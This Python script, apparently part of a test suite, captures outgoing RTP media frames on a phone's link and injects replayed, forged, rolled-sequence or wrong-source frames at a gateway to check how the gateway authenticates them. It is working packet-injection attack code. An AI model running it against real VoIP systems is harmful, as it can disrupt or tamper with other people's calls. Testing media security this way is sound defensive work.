#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""
An attacker on a phone's own link, run inside its namespace: takes real media frames off the wire and sends more.

usage: inject.py INTERFACE GATEWAY_IP MODE COUNT
    replay       each of the next COUNT RTP frames to the gateway once more, unchanged, 100 ms later
    forge        COUNT frames like the last seen, with the next sequence numbers and random payloads
    roll         the same with sequence numbers 30,000 apart: who believes them before he has authenticated them
                 counts a rollover with every second one
    wrong-source COUNT copies of frames with another source port

Prints how many frames it sent. Gives up after 20 s.
"""

import os
import socket
import struct
import sys
import time

ETH, IP4, UDP = 14, 20, 8
RTP = ETH + IP4 + UDP


def media_frames(sock, gateway, deadline):
    """IPv4 UDP frames to the gateway that hold RTP, as they leave this host."""
    while time.monotonic() < deadline:
        sock.settimeout(max(0.01, deadline - time.monotonic()))
        try:
            frame, address = sock.recvfrom(2048)
        except socket.timeout:
            return
        if address[2] != socket.PACKET_OUTGOING or len(frame) < RTP + 12 or frame[12:14] != b"\x08\x00":
            continue
        if frame[ETH + 9] != 17 or frame[ETH + 16:ETH + 20] != gateway:
            continue
        if frame[RTP] >> 6 == 2 and not 192 <= frame[RTP + 1] <= 223:
            yield frame


def finish_checksum(frame):
    """The kernel leaves a frame's UDP checksum to a device that is not there: 0 says that there is none (IPv4)."""
    frame = bytearray(frame)
    frame[ETH + IP4 + 6:ETH + IP4 + 8] = b"\0\0"
    return frame


def main():
    interface, gateway, mode, count = sys.argv[1], socket.inet_aton(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    deadline = time.monotonic() + 20
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    sock.bind((interface, 0))
    frames, sent, seen = media_frames(sock, gateway, deadline), 0, set()
    if mode == "replay":
        waiting = []
        while sent < count:
            frame = next(frames, None)
            if frame is None:
                break
            key = bytes(frame[RTP:])
            if key not in seen and len(seen) < count:  # what we send ourselves comes by here too
                seen.add(key)
                waiting.append((time.monotonic() + 0.1, finish_checksum(frame)))
            while waiting and waiting[0][0] <= time.monotonic():
                sock.send(waiting.pop(0)[1])
                sent += 1
    else:
        frame = next(frames, None)
        if frame is None:
            sys.exit("no media on the wire")
        frame = finish_checksum(frame)
        sequence = struct.unpack_from("!H", frame, RTP + 2)[0]
        for i in range(count):
            if mode in ("forge", "roll"):
                struct.pack_into("!H", frame, RTP + 2, (sequence + (1 if mode == "forge" else 30000) * (1 + i)) & 0xFFFF)
                frame[RTP + 12:] = os.urandom(len(frame) - RTP - 12)
            elif mode == "wrong-source":
                struct.pack_into("!H", frame, ETH + IP4, 40000 + i % 1000)
                struct.pack_into("!H", frame, RTP + 2, (sequence + 1000 + i) & 0xFFFF)
            else:
                sys.exit(f"unknown mode {mode}")
            sock.send(frame)
            sent += 1
            if i % 50 == 49:
                time.sleep(0.005)
    print(sent)


main()
